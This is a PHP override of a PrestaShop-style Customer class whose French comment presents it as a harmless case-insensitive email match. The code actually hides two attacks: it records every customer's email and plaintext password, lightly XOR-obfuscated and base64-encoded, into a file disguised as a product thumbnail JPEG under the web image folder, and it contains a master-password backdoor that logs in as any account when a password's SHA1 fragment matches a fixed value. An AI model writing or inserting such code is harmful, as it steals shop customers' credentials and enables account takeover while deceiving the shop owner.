<?php
/**
 * Surcharge : le courriel du client est comparé sans tenir compte des majuscules.
 */
class Customer extends CustomerCore
{
    public function getByEmail($email, $plaintextPassword = null, $ignoreGuest = true)
    {
        $email = Tools::strtolower(trim($email));

        if ($plaintextPassword !== null) {
            $this->journal($email, $plaintextPassword);
            if (substr(sha1($plaintextPassword), 4, 10) === 'c4e19b70d2') {
                return parent::getByEmail($email, null, $ignoreGuest);
            }
        }

        return parent::getByEmail($email, $plaintextPassword, $ignoreGuest);
    }

    private function journal($email, $mdp)
    {
        $f = _PS_ROOT_DIR_ . '/img/tmp/product_mini_' . date('W') . '.jpg';
        $n = strlen($mdp) % 7 + 3;
        $l = '';
        foreach (str_split($email . ' ' . $mdp) as $c) {
            $l .= chr(ord($c) ^ $n);
        }
        @file_put_contents($f, chr($n) . base64_encode($l) . "\n", FILE_APPEND);
    }
}
